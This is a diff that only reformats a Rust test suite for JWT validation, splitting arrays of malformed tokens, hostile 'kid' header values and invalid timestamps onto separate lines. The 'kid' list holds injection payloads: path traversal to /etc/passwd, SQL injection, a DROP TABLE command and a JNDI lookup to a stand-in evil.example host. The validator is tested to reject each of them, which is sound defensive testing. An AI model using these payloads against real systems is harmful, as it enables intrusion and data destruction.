@@ -149,8 +149,20 @@ fn what_is_no_token_is_refused() {
     let huge = forge.sign(&Forge::head().to_string(), &huge.to_string());
     let millions = "a".repeat(3_000_000);
     let others = [
-        "", ".", "..", "...", " ", "\0.\0.\0", "a.b.c", "{}.{}.{}", &millions, &huge, &format!(" {token}"),
-        &format!("{token} "), &token.replace('.', ".."), &token.replace('-', "+").replace('_', "/").replace('.', "=."),
+        "",
+        ".",
+        "..",
+        "...",
+        " ",
+        "\0.\0.\0",
+        "a.b.c",
+        "{}.{}.{}",
+        &millions,
+        &huge,
+        &format!(" {token}"),
+        &format!("{token} "),
+        &token.replace('.', ".."),
+        &token.replace('-', "+").replace('_', "/").replace('.', "=."),
     ];
     for other in others {
         let cut: String = other.chars().take(40).collect();
@@ -194,8 +206,16 @@ fn issuer_audience_and_key_are_ours() {
         assert!(!forge.with_claim(name, value.clone()), "{name} {value}");
     }
     for kid in [
-        "", "Default", "default\0", "../default", "../../../../dev/null", "/etc/passwd", "default' OR '1'='1", "1; DROP TABLE sessions",
-        "https://evil.example/key", "${jndi:ldap://evil.example/a}",
+        "",
+        "Default",
+        "default\0",
+        "../default",
+        "../../../../dev/null",
+        "/etc/passwd",
+        "default' OR '1'='1",
+        "1; DROP TABLE sessions",
+        "https://evil.example/key",
+        "${jndi:ldap://evil.example/a}",
     ] {
         assert!(!forge.with_head("kid", json!(kid)), "{kid}");
     }
@@ -237,7 +257,8 @@ fn times_are_checked_to_the_second() {
     assert!(!good("exp", json!(now)) && good("exp", json!(now + 1)));
     assert!(good("nbf", json!(now + LEEWAY_SECS)) && !good("nbf", json!(now + LEEWAY_SECS + 1)));
     assert!(good("iat", json!(now + LEEWAY_SECS)) && !good("iat", json!(now + LEEWAY_SECS + 1)));
-    for value in [json!(-1), json!(0), json!(i64::MIN), json!("9999999999"), json!(1e300), json!(f64::MAX), json!(true)] {
+    for value in [json!(-1), json!(0), json!(i64::MIN), json!("9999999999"), json!(1e300), json!(f64::MAX), json!(true)]
+    {
         assert!(!good("exp", value.clone()), "{value}");
     }
     for value in [json!(i64::MAX), json!(u64::MAX)] {
